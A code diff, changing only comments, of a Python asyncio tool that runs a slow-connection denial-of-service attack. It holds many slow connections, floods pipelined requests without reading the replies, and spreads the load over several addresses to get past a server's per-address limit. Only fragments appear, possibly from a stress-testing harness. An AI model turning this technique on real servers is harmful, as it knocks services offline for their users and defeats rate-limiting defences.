@@ -17,7 +17,7 @@ from itertools import cycle
 from typing import Final
 
 _MIB: Final = 1024 * 1024
-_NUM_ADDRESSES: Final = 8  # so that the limit per address does not end the attack
+_NUM_ADDRESSES: Final = 8  # so that the server's limit per address does not end the attack
 _NUM_SLOW: Final = 1_000
 _NUM_UNREAD: Final = 200
 _LINE_EVERY_S: Final = 4.0
@@ -103,6 +103,7 @@ async def unread_answers(target: Target) -> None:
         loop = asyncio.get_running_loop()
         while not target.is_over():
             with suppress(OSError), await _connect(target, receive_buffer=4_096) as sock:
+                # Ten pipelined requests: their responses fill the buffers of both sides.
                 await loop.sock_sendall(sock, (target.request_line() + b"\r\n") * 10)
                 await asyncio.sleep(max(target.ends_s - time.monotonic(), 0))
             await asyncio.sleep(_LINE_EVERY_S)
